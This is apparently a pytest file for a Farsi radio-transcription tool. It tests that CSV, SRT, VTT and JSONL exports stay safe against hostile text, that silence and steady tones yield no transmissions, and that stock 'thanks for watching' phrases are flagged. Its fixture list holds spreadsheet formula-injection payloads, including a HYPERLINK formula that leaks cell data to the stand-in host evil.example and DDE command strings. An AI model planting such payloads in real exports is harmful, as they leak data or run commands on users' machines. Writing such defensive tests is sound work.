"""Hostile input and output (issue 23): each case a careful user found, kept true.

Exports (CSV records that a bare CR split in two, cells that spreadsheets ran as formulas,
SRT cues that text could end or fake), silence and steady tones that became transmissions
of "I'm sorry...", and a stock YouTube phrase that was not marked suspect. Each test here
failed on the code before issue 23. The random-text version of the export cases is
tests/test_export_roundtrip.py.
"""
from __future__ import annotations

import csv
import io
import json

import numpy as np
import pytest
from click.testing import CliRunner

from intercept.audio import decode, wav_bytes
from intercept.cli import cli
from intercept.export import ROW_COLUMNS
from intercept.guards import Guards
from intercept.segment import SegmentOptions, find_transmissions
from intercept.store import CREATE, RecordingFacts, Store
from intercept.types import Flag, Line, Transmission

SAMPLE_RATE = 16000
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\x00")
HOSTILE_ENGLISH = [
    "first\rsecond",  # a bare CR: a line break to every spreadsheet
    "one\r\ntwo\nthree",
    'he said "stop", then left',
    '=HYPERLINK("http://evil.example/?leak="&A1,"open the recording")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def hostile_store(tmp_path):
    """One recording whose every line is flagged (so --flagged-only holds them all), with the
    hostile texts in its English, Farsi and raw Farsi."""
    path = tmp_path / "hostile.db"
    lines, flags = [], []
    for number, english in enumerate(HOSTILE_ENGLISH):
        farsi = "=پرنده" if number == 0 else "پرنده " + str(number)
        lines.append(Line(number * 3.0, number * 3.0 + 2.0, "-" + farsi, text_fa=farsi, text_en=english,
                          avg_logprob=-0.3, no_speech_prob=0.1, compression_ratio=1.2))
        flags.append([Flag("bird", "animal_code", "exact", 1.0, 0, 5, "پرنده", "high", "پرنده")])
    with Store(path, CREATE) as store:
        store.save_recording(RecordingFacts(path="/radio/=night.wav", sha256="e" * 64, duration_s=60.0),
                             [Transmission(0, 0.0, 60.0)], lines, flags, run_id=None, engine="e", model="m",
                             translator="t", lexicon_version="v1")
    return path


def _export(db, tmp_path, *options) -> bytes:
    target = tmp_path / "out"
    result = CliRunner().invoke(cli, ["export", str(db), *options, "-o", str(target)])
    assert result.exit_code == 0, result.output
    return target.read_bytes()


@pytest.mark.parametrize("selection", [[], ["--flagged-only"]], ids=["all", "flagged-only"])
def test_csv_keeps_one_record_per_line_whatever_the_text_holds(hostile_store, tmp_path, selection):
    """A bare CR went out unquoted: one record became two (9 + 18 columns in a spreadsheet)."""
    raw = _export(hostile_store, tmp_path, "--format", "csv", *selection)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert len(rows) == 1 + len(HOSTILE_ENGLISH), "a record was split"
    assert all(len(row) == len(ROW_COLUMNS) for row in rows)
    records = [dict(zip(rows[0], row)) for row in rows[1:]]
    assert [record["text_en"].removeprefix("'") for record in records] == HOSTILE_ENGLISH
    assert b"first\rsecond" in raw and b'"first\rsecond"' in raw, "the CR is kept, inside quotes"


@pytest.mark.parametrize("selection", [[], ["--flagged-only"]], ids=["all", "flagged-only"])
def test_csv_cells_are_never_formulas(hostile_store, tmp_path, selection):
    """=HYPERLINK(...) and friends went out as formulas, --flagged-only too."""
    raw = _export(hostile_store, tmp_path, "--format", "csv", *selection)
    records = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    for record in records:
        for column, cell in record.items():
            if cell.startswith(FORMULA_LEADS):
                float(cell)  # only a number may start with "-" (a log-probability), and it is no formula
    assert records[3]["text_en"] == "'" + HOSTILE_ENGLISH[3]
    assert records[0]["text_fa"] == "'=پرنده" and records[1]["text_fa_raw"] == "'-پرنده 1"
    assert records[0]["recording_path"] == "/radio/=night.wav", "only a cell's first character counts"
    assert records[7]["text_en"] == "'\t=1+1"
    assert records[0]["avg_logprob"] == "-0.3", "numbers stay numbers"


def test_csv_byte_order_mark_on_request(hostile_store, tmp_path):
    plain = _export(hostile_store, tmp_path, "--format", "csv")
    marked = _export(hostile_store, tmp_path, "--format", "csv", "--bom")
    assert not plain.startswith(b"\xef\xbb\xbf") and marked == b"\xef\xbb\xbf" + plain
    assert "--bom" in CliRunner().invoke(cli, ["export", "--help"]).output
    refused = CliRunner().invoke(cli, ["export", str(hostile_store), "--format", "jsonl", "--bom"])
    assert refused.exit_code != 0 and "JSON Lines must not start with one" in refused.output


def _subtitle_store(path):
    texts = [
        ("روباه --> پرنده", "the fox --> the bird"),
        ("صفر\x00\x00بود", "NUL\x00inside\x07 and\x1b[31m escapes"),
        ("اول\n\nدوم", "line one\n\n2\n00:00:01,000 --> 00:00:09,000\na cue of its own"),
        ("\r\n", "\u2028\u2029"),
    ]
    lines = [Line(n * 5.0, n * 5.0 + 4.0, fa, text_fa=fa, text_en=en, avg_logprob=-0.3) for n, (fa, en) in enumerate(texts)]
    with Store(path, CREATE) as store:
        store.save_recording(RecordingFacts(path="/radio/s.wav", sha256="f" * 64, duration_s=30.0),
                             [Transmission(0, 0.0, 30.0)], lines, [[] for _ in lines], run_id=None, engine="e",
                             model="m", translator="t", lexicon_version="v1")
    return path, texts


def _player_cues(text: str, header: str = "") -> list[list[str]]:
    """Cues as a lenient player reads them: blocks between blank lines, each a number, a
    timing line (the one holding '-->'), and text lines."""
    cues = []
    for block in text[len(header):].strip("\n").split("\n\n"):
        number, timing, *lines = block.split("\n")
        assert number.isdigit() and "-->" in timing, block
        cues.append(lines)
    return cues


def test_srt_text_cannot_end_or_fake_a_cue(tmp_path):
    """SRT kept "-->" inside text and NUL bytes; a blank line in text ended the cue."""
    db, texts = _subtitle_store(tmp_path / "s.db")
    raw = _export(db, tmp_path, "--format", "srt")
    assert b"\x00" not in raw and b"\x07" not in raw and b"\x1b" not in raw
    cues = _player_cues(raw.decode("utf-8"))
    assert len(cues) == len(texts)
    assert not any("-->" in line for cue in cues for line in cue)
    assert cues[0] == ["روباه \u2192 پرنده", "the fox \u2192 the bird"]
    assert cues[1] == ["صفربود", "NULinside and[31m escapes"]
    assert cues[2] == ["اول دوم", "line one 2 00:00:01,000 \u2192 00:00:09,000 a cue of its own"]
    assert cues[3] == ["…"], "nothing but line breaks is no text"


def test_vtt_text_cannot_end_or_fake_a_cue(tmp_path):
    db, texts = _subtitle_store(tmp_path / "s.db")
    raw = _export(db, tmp_path, "--format", "vtt")
    assert b"\x00" not in raw and b"\x07" not in raw
    cues = _player_cues(raw.decode("utf-8"), header="WEBVTT\n\n")
    assert len(cues) == len(texts) and not any("-->" in line for cue in cues for line in cue)
    assert cues[0] == ["روباه --&gt; پرنده", "the fox --&gt; the bird"]


def test_jsonl_stays_exact(tmp_path):
    db, texts = _subtitle_store(tmp_path / "s.db")
    raw = _export(db, tmp_path, "--format", "jsonl").decode("utf-8")
    assert len(raw.splitlines()) == len(texts), "U+2028/2029 would split a record for str.splitlines"
    assert [(row["text_fa"], row["text_en"]) for row in map(json.loads, raw.splitlines())] == texts


# --- silence and steady tones -------------------------------------------------------------

def _through_a_file(tmp_path, samples: np.ndarray) -> np.ndarray:
    """Samples written as a 16-bit WAV and decoded as intercept decodes any recording."""
    path = tmp_path / "signal.wav"
    path.write_bytes(wav_bytes(np.clip(np.round(samples * 32767.0), -32768, 32767).astype("<i2"), SAMPLE_RATE))
    return decode(str(path)).samples


def test_ten_minutes_of_digital_silence_give_no_transmission(tmp_path):
    """`sox -n -b 16 silence.wav trim 0 600` is not all zeros: sox dithers (+-1 step). Peak
    normalised for Silero, that dither was full-scale noise: 12 transmissions, which Whisper
    heard as "I'm sorry...". docs/recovery.md promises none."""
    rng = np.random.default_rng(23)
    dither = (rng.integers(-1, 2, 600 * SAMPLE_RATE) / 32767.0).astype(np.float32)
    samples = _through_a_file(tmp_path, dither)
    assert 0 < np.abs(samples).max() < 1e-4
    for method in ("silero", "energy", "auto"):
        assert find_transmissions(samples, SAMPLE_RATE, SegmentOptions(method=method)) == [], method


def _steady(kind: str, seconds: float = 60.0) -> np.ndarray:
    rng = np.random.default_rng(5)
    time = np.arange(int(seconds * SAMPLE_RATE)) / SAMPLE_RATE
    dither = rng.integers(-1, 2, time.size) / 32767.0
    signal = {
        "1 kHz sine": 0.3 * np.sin(2 * np.pi * 1000 * time),
        "DC offset": np.full(time.size, 0.2),
        # Mains hum and its odd harmonics, as an unshielded receiver's squelch tail leaves it.
        "hum": sum(0.1 / k * np.sin(2 * np.pi * 50 * k * time) for k in (1, 3, 5, 7, 9)),
        "carrier hiss": 0.05 * rng.standard_normal(time.size),  # keyed, nobody speaking
    }[kind]
    return (signal + dither).astype(np.float32)


@pytest.mark.parametrize("kind", ["1 kHz sine", "DC offset", "hum", "carrier hiss"])
def test_a_steady_tone_is_no_transmission(tmp_path, kind):
    """The energy split's threshold is relative to the file's loud level, so a file of one
    constant tone was one long keyed span (11 transmissions of 2 minutes' sine)."""
    samples = _through_a_file(tmp_path, _steady(kind))
    for method in ("silero", "energy", "auto"):
        assert find_transmissions(samples, SAMPLE_RATE, SegmentOptions(method=method)) == [], method


def test_speech_between_silences_is_still_found(tmp_path):
    """The same file with a real transmission in it: the checks drop nothing that speaks."""
    from pathlib import Path

    speech = decode(str(Path(__file__).resolve().parent.parent / "audio_samples" / "short_call.wav")).samples
    rng = np.random.default_rng(6)
    quiet = (rng.integers(-1, 2, 20 * SAMPLE_RATE) / 32767.0).astype(np.float32)
    samples = np.concatenate([quiet, speech, quiet])
    for method in ("silero", "energy", "auto"):
        found = find_transmissions(samples, SAMPLE_RATE, SegmentOptions(method=method))
        assert len(found) == 1 and 20.0 + 1.5 < found[0].end and found[0].start < 20.0 + 3.0, (method, found)


# --- stock phrases -------------------------------------------------------------------------

@pytest.fixture(scope="module")
def guards():
    from intercept.text import PersianNormalizer

    return Guards(normalize=PersianNormalizer().normalize)  # as PostRecognition builds them


def _suspect(guards, english: str, farsi: str = "سلام") -> bool:
    line = Line(0, 1, farsi, text_fa=farsi, text_en=english, compression_ratio=1.2, no_speech_prob=0.1,
                avg_logprob=-0.3)
    guards.mark([line])
    return bool(line.suspect and "hallucinated" in line.suspect)


@pytest.mark.parametrize("english", [
    "Thank you very much for watching.",
    "THANK YOU VERY MUCH FOR WATCHING!",
    "thanks for watching!",
    "  Thanks   for watching  ",
    "Thank you for watching the video",
    "So, thank you so much for watching, everyone. Bye!",
    "Thank you for watching.\u200f",
    "Thanks for watching. Please subscribe.",
    "Subtitles by the Amara.org community",
])
def test_stock_phrases_are_suspect_in_any_form(guards, english):
    assert _suspect(guards, english)


@pytest.mark.parametrize("english", [
    "Thank you, we received your message, over.",
    "Thank you for the report on the convoy.",
    "Thank you very much.",
    "Thanks for watching the northern gate tonight.",
    "I subscribe to that view.",
])
def test_ordinary_english_holding_thank_you_is_not(guards, english):
    assert not _suspect(guards, english)


def test_a_farsi_stock_phrase_in_any_form(guards):
    assert _suspect(guards, "", farsi="ممنون که تماشا کردید.")
    assert _suspect(guards, "", farsi="زیرنویس\u200cها از امیر")
    assert not _suspect(guards, "", farsi="ممنون که گزارش دادید")
